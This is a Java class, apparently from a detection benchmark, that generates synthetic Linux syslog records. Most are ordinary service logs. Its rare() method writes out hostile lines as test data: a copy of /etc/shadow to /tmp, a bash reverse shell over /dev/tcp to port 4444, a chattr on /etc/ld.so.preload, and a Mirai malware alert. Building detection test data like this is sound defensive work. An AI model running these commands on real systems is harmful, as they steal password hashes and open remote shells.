package io.tripline.bench.compare;

/** Lines of a Linux machine as text in one field: only keyword rules can say anything of them. */
final class RawLines implements Maker {

    private static final double RARE = 0.01;

    private final Words words;
    private long time = Words.START;

    RawLines(long seed) {
        words = new Words(seed);
    }

    @Override
    public void next(StringBuilder out) {
        time += 10;
        String head = "Jan  1 " + Words.time(time).substring(11, 19) + " host" + words.below(300) + " ";
        new Json(out)
                .text("@timestamp", Words.time(time))
                .text("message", head + (words.chance(RARE) ? rare() : ordinary()))
                .endLine();
    }

    private String ordinary() {
        return switch (words.below(6)) {
            case 0 ->
                "sshd[" + words.below(30_000) + "]: Accepted publickey for " + words.word() + " from " + words.address()
                        + " port " + words.below(60_000) + " ssh2: ED25519 SHA256:" + words.hex(43);
            case 1 ->
                "systemd[1]: Started " + words.word() + " " + words.word() + ".service - the " + words.word() + " of "
                        + words.word() + ".";
            case 2 ->
                "kernel: [" + words.below(900_000) + ".123456] " + words.word() + ": link becomes ready, "
                        + words.word() + " " + words.hex(12);
            case 3 ->
                "CRON[" + words.below(30_000) + "]: (root) CMD (/usr/lib/" + words.word() + "/" + words.word()
                        + " --quiet)";
            case 4 ->
                "nginx: " + words.address() + " - - \"GET /" + words.word() + "/" + words.word() + "?id="
                        + words.below(9_999) + " HTTP/1.1\" 200 " + words.below(90_000)
                        + " \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"";
            default ->
                words.word() + "[" + words.below(30_000) + "]: level=info msg=\"" + words.word() + " took "
                        + words.below(900) + "ms\" id=" + words.uuid() + " user=" + words.word();
        };
    }

    private String rare() {
        return switch (words.below(4)) {
            case 0 ->
                "bash[" + words.below(30_000) + "]: " + words.word() + " ran: cat /etc/shadow > /tmp/" + words.word();
            case 1 ->
                "bash[" + words.below(30_000) + "]: " + words.word() + " ran: bash -i >& /dev/tcp/" + words.address()
                        + "/4444 0>&1";
            case 2 ->
                "sudo: " + words.word()
                        + " : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/chattr -i /etc/ld.so.preload";
            default -> "clamd[" + words.below(30_000) + "]: /tmp/" + words.word() + ": Unix.Trojan.Mirai FOUND";
        };
    }
}
